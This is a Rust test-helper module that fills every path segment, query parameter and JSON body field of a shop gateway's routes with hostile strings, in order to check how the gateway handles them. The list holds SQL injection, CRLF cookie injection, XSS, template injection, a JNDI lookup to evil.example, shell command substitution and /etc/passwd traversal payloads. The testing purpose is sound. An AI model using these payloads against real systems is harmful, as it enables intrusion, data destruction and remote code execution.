//! Hostile texts, and calls of every row with them.

use std::sync::LazyLock;

use e2e::Shop;
use gateway::{openapi, route::Row, routes::TABLE};
use reqwest::{Method, RequestBuilder};
use serde_json::{Value, json};
use testkit::TokenKey;
use uuid::Uuid;

use crate::shops::WITHOUT_RATE_LIMITS;

/// An id that nothing has.
pub(super) const NOTHING: &str = "01a20683-588d-772f-9d58-2dca5df5450b";

/// Texts that mean something to a database, a terminal, a template, a shell, a browser or a file system.
pub(super) const TEXTS: [&str; 16] = [
    "'; DROP TABLE users; --",
    "\" OR \"\"=\"",
    "1) OR 1=1 --",
    "%' OR '1'='1",
    "\\'; SELECT pg_sleep(10); --",
    "a\u{0}b",
    "\u{8}\u{1b}[31mred\u{7f}",
    "line\r\nSet-Cookie: session=stolen",
    "\u{202e}moc.live\u{200b}\u{feff}",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{7*7}}${7*7}#{7*7}",
    "${jndi:ldap://evil.example/a}",
    "$(touch /tmp/owned)`id`",
    "../../../../etc/passwd",
    "\u{1F469}\u{200D}\u{1F4BB}\u{FFFD}\u{FFFF}",
];

/// What the gateway publishes about its rows.
static DOCUMENT: LazyLock<Value> =
    LazyLock::new(|| serde_json::from_str(&openapi::pretty()).unwrap());

/// A shop without limits of requests, and its signing key.
pub(super) async fn open() -> (Shop, TokenKey) {
    let shop = Shop::open_with(WITHOUT_RATE_LIMITS).await;
    let key = shop.signing_key().await;
    (shop, key)
}

/// The token of staff who may do everything.
pub(super) fn staff_token(key: &TokenKey) -> String {
    key.sign(&Shop::claims(Uuid::now_v7(), "staff", &Shop::GROUPS))
}

/// A request to a row of the gateway's table, with this text in every segment that is variable. [`NOTHING`] is an id;
/// where a row needs a service or a SKU, one takes its place.
pub(super) fn request(shop: &Shop, row: &Row, segment: &str) -> RequestBuilder {
    request_with_query(shop, row, segment, &[])
}

/// The same with parameters.
pub(super) fn request_with_query(
    shop: &Shop,
    row: &Row,
    segment: &str,
    query: &[(&str, &str)],
) -> RequestBuilder {
    let encoded = percent_encoded(segment);
    let segments = row.path.split('/').map(|part| match part {
        "{service}" if segment == NOTHING => "order",
        "{sku}" | "{product}" if segment == NOTHING => "NOTHING-1",
        part if part.starts_with('{') => encoded.as_str(),
        part => part,
    });
    let mut path = segments.collect::<Vec<_>>().join("/");
    for (number, (name, value)) in query.iter().enumerate() {
        let separator = if number == 0 { '?' } else { '&' };
        path = format!("{path}{separator}{name}={}", percent_encoded(value));
    }
    let method = Method::from_bytes(row.method.as_bytes()).unwrap();
    let request = shop.request(method, &path);
    let request = request.header("Idempotency-Key", Uuid::now_v7().to_string());
    request.header("If-Match", "*")
}

/// Every byte as `%xx`, so that it reaches the shop as it is.
fn percent_encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// The rows with a JSON body, each with the schema of the body.
pub(super) fn rows_with_a_body() -> Vec<(&'static Row, Value)> {
    let document = &*DOCUMENT;
    let rows = TABLE.iter().filter_map(|row| {
        let operation = &document["paths"][row.path][row.method.to_lowercase()];
        let content = operation["requestBody"]["content"].as_object()?;
        let schema = &content.values().next()?["schema"];
        let name = schema["$ref"].as_str()?.rsplit('/').next()?;
        Some((row, document["components"]["schemas"][name].clone()))
    });
    let rows: Vec<_> = rows.collect();
    assert!(rows.len() > 10, "the document has bodies");
    rows
}

/// The parameters of a row's query.
pub(super) fn query_of(row: &Row) -> Vec<String> {
    let operation = &DOCUMENT["paths"][row.path][row.method.to_lowercase()];
    let parameters = operation["parameters"].as_array().into_iter().flatten();
    let in_query = parameters.filter(|parameter| parameter["in"] == "query");
    in_query
        .filter_map(|parameter| Some(parameter["name"].as_str()?.to_owned()))
        .collect()
}

/// A body that has all fields of a schema, with this text in every text.
pub(super) fn body(schema: &Value, text: &str) -> Value {
    filled(&DOCUMENT, schema, text)
}

fn filled(document: &Value, schema: &Value, text: &str) -> Value {
    if let Some(name) = schema["$ref"]
        .as_str()
        .and_then(|path| path.rsplit('/').next())
    {
        return filled(document, &document["components"]["schemas"][name], text);
    }
    for choice in ["oneOf", "anyOf", "allOf"] {
        if let Some(first) = schema[choice].as_array().and_then(|all| all.last()) {
            return filled(document, first, text);
        }
    }
    let kind = schema["type"].as_str().or(schema["type"][0].as_str());
    match kind {
        Some("integer" | "number") => json!(1),
        Some("boolean") => json!(true),
        Some("array") => json!([filled(document, &schema["items"], text)]),
        Some("object") => {
            let fields = schema["properties"].as_object().into_iter().flatten();
            let fields = fields.map(|(name, field)| (name.clone(), filled(document, field, text)));
            Value::Object(fields.collect())
        }
        _ => json!(text),
    }
}
